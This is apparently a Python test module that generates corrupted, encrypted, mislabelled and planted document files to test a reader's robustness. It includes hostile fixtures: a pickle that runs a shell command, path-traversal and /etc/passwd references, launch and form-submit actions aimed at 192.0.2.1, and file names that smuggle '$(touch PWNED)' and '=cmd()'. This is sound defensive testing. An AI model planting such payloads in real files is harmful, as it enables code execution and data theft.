"""Damaged, encrypted and planted files: whatever is read of them is right, or something says that it may not be."""

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Iterator
from functools import partial

from tests.hostile import plan, raw_word
from tests.hostile.case import ENDED, NO_TEXT, READ, Case
from tests.hostile.plan import DRAWN, SECRET
from tests.hostile.raw_pdf import page, pdf, stream, write

BROKEN = ("PDF_CORRUPT", "PDF_NO_PAGES", "PDF_DAMAGED", "TYPE_UNKNOWN")
WHOLE = plan.TRUTH
SAID = "said"
REPAIRED = ("REPAIRED",)
ACTIVE = ("ACTIVE_CONTENT",)


def shifted(by: int) -> bytes:
    good = plan.PDF
    start = good.index(b"xref\n")
    head, tail = good[:start], good[start:]
    lines = tail.split(b"\n")
    moved = [
        b"%010d" % max(0, int(line[:10]) + by) + line[10:] if line.endswith(b" n ") else line
        for line in lines
    ]
    return head + b"\n".join(moved)


def noisy(seed: int, changes: int = 10) -> bytes:
    """The plan, packed as real PDFs are, with a few random bytes changed."""
    packed = zlib.compress(DRAWN)
    chance, data = random.Random(seed), bytearray(page(more={4: stream(packed, b"/Filter/FlateDecode")}))
    for _ in range(changes):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data)


def noisy_word(seed: int, changes: int = 10) -> bytes:
    chance, data = random.Random(seed), bytearray(plan.DOCX)
    for _ in range(changes):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data)


def encrypted(user: str, owner: str, **permissions: bool) -> bytes:
    """The plan, encrypted by a library (the salts are random)."""
    import pikepdf

    file = io.BytesIO()
    with pikepdf.open(io.BytesIO(plan.PDF)) as document:
        allow = pikepdf.Permissions(**permissions)
        document.save(file, encryption=pikepdf.Encryption(owner=owner, user=user, R=6, allow=allow))
    return file.getvalue()


def old_cipher() -> bytes:
    """An /Encrypt dictionary of a handler nobody has."""
    return page(DRAWN).replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Acme.Lock/V 9/R 9>>/ID[(a)(b)]")


def updated() -> bytes:
    """An incremental update that takes the page away again: what was removed must not come back."""
    good = page(write(SECRET, 100, 100))
    start = int(good.split(b"startxref\n")[1].split(b"\n")[0])
    at = len(good)
    body = b"2 0 obj\n<</Type/Pages/Kids[6 0 R]/Count 1>>\nendobj\n"
    body += b"6 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 7 0 R/Resources<</Font<</F 5 0 R>>>>>>\nendobj\n"
    places = [at, at + body.index(b"6 0 obj")]
    places.append(at + len(body))
    body += b"7 0 obj\n" + stream(write("The page that took its place.")) + b"\nendobj\n"
    xref = b"xref\n2 1\n%010d 00000 n \n6 2\n%010d 00000 n \n%010d 00000 n \n" % tuple(places)
    return (
        good
        + body
        + xref
        + b"trailer\n<</Size 8/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (start, at + len(body))
    )


def removed() -> bytes:
    """A page that no page tree holds any more."""
    return pdf({
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[6 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        4: stream(write(SECRET, 100, 100)),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        6: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 7 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        7: stream(write("The page that is left.")),
    })  # fmt: skip


def no_kids() -> bytes:
    return page(write(SECRET, 100, 100)).replace(b"/Kids[3 0 R]/Count 1", b"/Kids[]/Count 0     ")


def structure() -> Iterator[Case]:
    good = plan.PDF
    for by in (1, -1, 7, 100):
        yield Case(f"offsets {by} off.pdf", shifted(by), ("",), REPAIRED * (by > 0), WHOLE)
    yield Case(
        "start of the table lost.pdf", good.replace(b"startxref\n", b"startxref\n9"), ("",), REPAIRED, WHOLE
    )
    yield Case(
        "no table.pdf", good[: good.index(b"xref\n0")] + b"trailer<</Root 1 0 R>>", ("",), REPAIRED, WHOLE
    )
    yield Case("no end.pdf", good.replace(b"%%EOF", b""), ("",), rows=WHOLE)
    yield Case("no trailer.pdf", good[: good.index(b"xref\n0")], ("", *BROKEN), rows=SAID)
    yield Case(
        "junk before.pdf",
        b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + good,
        ("",),
        rows=WHOLE,
    )
    yield Case("a page of junk before.pdf", b"\r\n" * 700 + good, ("",), rows=WHOLE)
    yield Case("junk after.pdf", good + b"\0" * 5000, ("",), rows=WHOLE)
    yield Case("mac line ends.pdf", good.replace(b"\n", b"\r"), ("",), rows=SAID)
    yield Case(
        "a length too short.pdf",
        page(DRAWN).replace(b"/Length %d" % len(DRAWN), b"/Length 10"),
        ("", *READ),
        rows=SAID,
    )
    yield Case(
        "a length too long.pdf",
        page(DRAWN).replace(b"/Length %d" % len(DRAWN), b"/Length 99999"),
        ("", *READ),
        rows=SAID,
    )
    yield Case("version 9.pdf", good.replace(b"%PDF-1.7", b"%PDF-9.9"), ("",), rows=WHOLE)
    yield Case("header only.pdf", b"%PDF-1.7\n", BROKEN)
    yield Case("header and end.pdf", b"%PDF-1.7\nstartxref\n0\n%%EOF", BROKEN)
    yield Case(
        "no catalog.pdf", good.replace(b"/Type/Catalog/Pages 2 0 R", b"/Nothing"), (*BROKEN, ""), rows=SAID
    )
    yield Case(
        "no pages.pdf",
        pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"}),
        BROKEN,
    )
    yield Case("kids of nothing.pdf", pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[9 0 R]/Count 1>>"}), (*BROKEN, "PAGE_UNREADABLE", *READ, *NO_TEXT))  # fmt: skip
    yield Case("a removed page.pdf", removed())
    yield Case("all pages removed.pdf", no_kids(), (*BROKEN, *READ))
    yield Case("an updated page.pdf", updated())
    yield Case("content of noise.pdf", page(bytes(range(1, 256)) * 200), (*READ, *NO_TEXT))
    yield Case("content cut.pdf", page(DRAWN[: len(DRAWN) // 2]), ("", *READ, "PARSER_ERROR"), rows=SAID)
    for share in (20, 50, 80, 95, 99):
        yield Case(
            f"cut at {share} percent.pdf",
            good[: len(good) * share // 100],
            ("", *BROKEN, *READ, *NO_TEXT),
            rows=SAID,
        )
        yield Case(
            f"cut at {share} percent.docx", plan.DOCX[: len(plan.DOCX) * share // 100], ("DOCX_CORRUPT",)
        )
    for seed in range(16):
        yield Case(
            f"ten bytes changed {seed}.pdf", noisy(seed), ("", *BROKEN, *READ, *NO_TEXT, *ENDED), rows=SAID
        )
    for seed in range(8):
        yield Case(f"ten bytes changed {seed}.docx", noisy_word(seed), ("", "DOCX_CORRUPT", "DOCX_PASSWORD", "BOMB", "TYPE_MISMATCH", *READ), rows=SAID)  # fmt: skip


def locked() -> Iterator[Case]:
    yield Case("password.pdf", partial(encrypted, "open sesame", "owner"), ("PDF_PASSWORD",))
    yield Case("owner password only.pdf", partial(encrypted, "", "owner"), ("",), rows=WHOLE)
    yield Case(
        "may not be copied.pdf",
        partial(encrypted, "", "owner", extract=False),
        ("",),
        ("PDF_RESTRICTED",),
        WHOLE,
    )
    yield Case("unknown cipher.pdf", old_cipher(), ("PDF_ENCRYPTED", "PDF_PASSWORD"))


def ole(*streams: str) -> bytes:
    """A compound file's header and a directory with these streams, nothing in them."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:34] = bytes.fromhex("3e000300feff09000600")
    header[44:52] = (1).to_bytes(4, "little") + (1).to_bytes(4, "little")
    header[76:80] = (0).to_bytes(4, "little")
    entries = bytearray()
    for i, name in enumerate(("Root Entry", *streams)):
        entry = bytearray(128)
        raw = name.encode("utf-16-le")
        entry[: len(raw)] = raw
        entry[64:66] = (len(raw) + 2).to_bytes(2, "little")
        entry[66] = 5 if i == 0 else 2
        entries += entry
    fat = b"\xfd\xff\xff\xff" + b"\xfe\xff\xff\xff" * 127
    return bytes(header) + fat + bytes(entries).ljust(512, b"\0") + b"\0" * 4096


def other_kinds() -> Iterator[Case]:
    """Files that are not what their names say, and kinds that are not read."""
    mismatch = ("TYPE_MISMATCH",)
    yield Case("a Word document.pdf", plan.DOCX + b"", ("",), rows=WHOLE)
    yield Case("a PDF.docx", plan.PDF + b"% as Word", ("",), rows=WHOLE)
    yield Case("a PDF", plan.PDF + b"% bare", ("",), rows=WHOLE)
    yield Case("a PDF.xyz", plan.PDF + b"% xyz", ("",), rows=WHOLE)
    yield Case("PLAN.PDF", plan.PDF + b"% loud", ("",), rows=WHOLE)
    yield Case("web page.pdf", b"<!doctype html><title>404 Not found</title>", mismatch)
    yield Case(
        "web page.doc",
        b"<html xmlns:o='urn:schemas-microsoft-com:office:office'><body><img src='http://192.0.2.1/x'>",
        mismatch,
    )
    yield Case("page of xml.docx", b"<?xml version='1.0'?><pkg:package xmlns:pkg='urn:x'/>", mismatch)
    yield Case("saved mail.doc", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n", mismatch)
    yield Case("picture.pdf", b"\xff\xd8\xff\xe0" + b"\0" * 99, mismatch)
    yield Case("picture.docx", b"\x89PNG\r\n\x1a\n" + b"\0" * 99, mismatch)
    yield Case("picture.tif", b"II*\0" + b"\0" * 99, ("OTHER_FORMAT",))
    yield Case("picture.heic", b"\0\0\0\x18ftypheic" + b"\0" * 99, ("OTHER_FORMAT",))
    yield Case("program.pdf", b"MZ" + b"\0" * 999, mismatch)
    yield Case("text.pdf", b"please find attached", mismatch)
    yield Case("text.txt", b"please find attached as well", ("OTHER_FORMAT",))
    yield Case("noise.pdf", random.Random(1).randbytes(4000), ("TYPE_UNKNOWN",))
    yield Case("noise", random.Random(2).randbytes(4000), ("TYPE_UNKNOWN",))
    yield Case("zeros.pdf", b"\0" * 5000, ("TYPE_UNKNOWN",))
    yield Case("one byte.pdf", b"%", ("TYPE_UNKNOWN", "TYPE_MISMATCH"))
    yield Case("nothing.pdf", b"", ("EMPTY_FILE",))
    yield Case("workbook.xlsx", raw_word.archive([("[Content_Types].xml", raw_word.content_types("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"))]), ("OTHER_FORMAT",))  # fmt: skip
    yield Case("workbook.docx", raw_word.archive([("[Content_Types].xml", raw_word.content_types("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")), ("xl/workbook.xml", b"<x/>")]), mismatch)  # fmt: skip
    yield Case("slides.pptx", raw_word.archive([("[Content_Types].xml", raw_word.content_types("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"))]), ("OTHER_FORMAT",))  # fmt: skip
    yield Case("plans.zip", raw_word.archive([("a.pdf", plan.PDF)]), ("OTHER_FORMAT",))
    yield Case("plans.docx", raw_word.archive([("b.pdf", plan.PDF)]), mismatch)
    yield Case("old workbook.xls", ole("Workbook"), ("OTHER_FORMAT",))
    yield Case("old workbook.doc", ole("Book"), mismatch)
    yield Case("mail.msg", ole("__properties_version1.0"), ("OTHER_FORMAT",))
    yield Case("locked.docx", ole("EncryptionInfo", "EncryptedPackage"), ("DOCX_PASSWORD",))
    yield Case("locked.pdf", ole("EncryptedPackage", "EncryptionInfo"), ("DOCX_PASSWORD",))
    yield Case("hollow.doc", ole("WordDocument"), ("CONVERSION_FAILED", "NEEDS_LIBREOFFICE", *READ, *NO_TEXT))
    yield Case("plan.rtf", rb"{\rtf1\ansi Nothing here is a plan of action.}", (*READ, "NEEDS_LIBREOFFICE"))
    yield Case("fetches.rtf", rb"{\rtf1\ansi{\field{\*\fldinst INCLUDEPICTURE \"http://192.0.2.1/x\"}{\fldrslt picture}} words here}", (*READ, "NEEDS_LIBREOFFICE"))  # fmt: skip
    yield Case("both.pdf", plan.PDF + raw_word.archive([("a", b"b")]), ("",), ("POLYGLOT",), WHOLE)
    yield Case("half a download.pdf.crdownload", plan.PDF[:900], ("PARTIAL_DOWNLOAD",))
    yield Case("half a download.pdf.part", plan.PDF[:901], ("PARTIAL_DOWNLOAD",))
    yield Case("half a download.tmp", plan.PDF[:902], ("PARTIAL_DOWNLOAD",))
    yield Case("~$plan.docx", b"\x05owner", ("LOCK_FILE",))
    yield Case(".~lock.plan.docx#", b",owner", ("LOCK_FILE",))
    yield Case("Thumbs.db", b"\xd0\xcf\x11\xe0", ("SYSTEM_FILE",))
    yield Case(".DS_Store", b"\0\0\0\1Bud1", ("SYSTEM_FILE",))
    yield Case("._plan.pdf", b"\0\5\x16\7", ("SYSTEM_FILE",))


PICKLE = b"cos\nsystem\n(S'touch PWNED'\ntR."
"""What a planted CMap cache would run."""


def planted() -> Iterator[Case]:
    """What other readers ran, fetched or logged (evidence, section 1.3)."""
    fonts = b"/Font<</F 6 0 R>>"
    for name, encoding in (("by a path", b"/..#2f..#2f..#2ftmp#2fevil"), ("by a name", b"/evil"), ("by a web address", b"/http:#2f#2f192.0.2.1#2fcmap")):  # fmt: skip
        font = b"<</Type/Font/Subtype/Type0/BaseFont/Arial/Encoding%s/DescendantFonts[7 0 R]>>" % encoding
        below = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/Arial/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>"
        content = page(write("text of it"), {6: font, 7: below, 8: stream(PICKLE)}, resources=fonts)
        yield Case(f"encoding {name}.pdf", content, (*READ, *NO_TEXT))
    yield Case("stream of another file.pdf", page(DRAWN, {6: b"<</F(/etc/passwd)/FFilter/FlateDecode/Length 0>>stream\n\nendstream"}, b"/Annots[6 0 R]"), ("PDF_DAMAGED",), rows=WHOLE)  # fmt: skip
    yield Case("content of another file.pdf", page(more={4: b"<</F(/etc/passwd)/Length 0>>stream\n\nendstream"}), (*READ, *NO_TEXT))  # fmt: skip
    yield Case(
        "launches.pdf", page(DRAWN, catalog=b"/OpenAction<</S/Launch/F(calc.exe)>>"), ("",), ACTIVE, WHOLE
    )
    yield Case(
        "submits.pdf",
        page(DRAWN, catalog=b"/OpenAction<</S/SubmitForm/F(http://192.0.2.1/)>>"),
        ("",),
        ACTIVE,
        WHOLE,
    )
    yield Case(
        "goes elsewhere.pdf",
        page(DRAWN, catalog=b"/OpenAction<</S/URI/URI(http://192.0.2.1/)>>"),
        ("",),
        rows=WHOLE,
    )
    yield Case("xfa.pdf", page(DRAWN, {6: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")}, catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>"), ("",), ("XFA_FORM",), WHOLE)  # fmt: skip
    yield Case("operators of text.pdf", page(b"/F 10 Tf BT (%s) Tr (%s) Tf (%s) w ET " % ((SECRET.encode(),) * 3) + write("ordinary words")), READ)  # fmt: skip
    yield Case("words for a shell $(touch PWNED).pdf", plan.PDF + b"% shell", ("",), rows=WHOLE)
    yield Case("=cmd() named.pdf", plan.PDF + b"% formula", ("",), rows=WHOLE)
    yield Case("<b>named & 'so'.pdf", plan.PDF + b"% markup", ("",), rows=WHOLE)


def cases() -> Iterator[Case]:
    for group in (structure, locked, other_kinds, planted):
        yield from group()
